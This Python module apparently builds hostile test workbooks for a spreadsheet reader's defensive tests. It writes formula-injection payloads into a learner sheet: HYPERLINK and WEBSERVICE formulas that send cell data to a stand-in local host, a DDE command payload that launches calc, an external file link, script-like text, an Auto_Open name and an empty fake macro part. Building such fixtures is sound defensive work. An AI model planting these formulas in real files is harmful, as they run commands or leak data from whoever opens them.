"""Hostile workbooks: nothing in them may run, be fetched, or reach another file through us."""

import shutil
import zipfile
from pathlib import Path

import xlsxwriter

from sobo.demo.samples.cells import headed_columns, written
from sobo.demo.samples.clean import DAY_FORMAT, write_row
from sobo.demo.samples.story import Story
from sobo.registry.sheets import LEARNERS

_ROWS = 12
_ATTACKS = (
    '=HYPERLINK("http://127.0.0.1:9/?"&A2,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "='[luong.xlsx]Bảng lương'!$B$2",
    '=WEBSERVICE("http://127.0.0.1:9/"&B2)',
    "=1+1",
)
"""Formulas that a careless reader would work out, or write out again for others to open."""
_TEXTS = ("=1+1", "+84 912 345 678", "-2+3", "@SUM(A1:A9)", "<script>alert(1)</script>")
"""Texts that turn into formulas, or into a page's own code, when written without care."""


def write_hostile(path: Path, told: Story) -> None:
    """A small learner sheet with formulas, links to other files and texts that pose as formulas."""
    columns = headed_columns(LEARNERS, told.plan.levels)
    rows = written(told.learners.head(_ROWS), columns, province=told.plan.province)
    keys = [column.key for column in columns]
    name, residence = keys.index("full_name"), keys.index("residence")
    with xlsxwriter.Workbook(path, {"strings_to_formulas": False}) as workbook:
        page = workbook.add_worksheet(LEARNERS.name)
        day = workbook.add_format({"num_format": DAY_FORMAT})
        write_row(page, 0, [column.label() for column in columns], None, day)
        for at, cells in enumerate(rows, start=1):
            write_row(page, at, cells, None, day)
        for at, attack in enumerate(_ATTACKS, start=1):
            page.write_formula(at, residence, attack, None, "Bấm vào đây")
        for at, text in enumerate(_TEXTS, start=1 + len(_ATTACKS)):
            page.write_string(at, name, text)
        workbook.define_name("_xlnm.Auto_Open", f"='{LEARNERS.name}'!$A$1")


def write_macro(path: Path, told: Story) -> None:
    """The same with a part that says it is a macro project; there is no code in it."""
    write_hostile(path, told)
    plain = path.with_suffix(".tmp")
    shutil.move(path, plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w") as target:
        for item in source.infolist():
            target.writestr(item, source.read(item))
        target.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    plain.unlink()
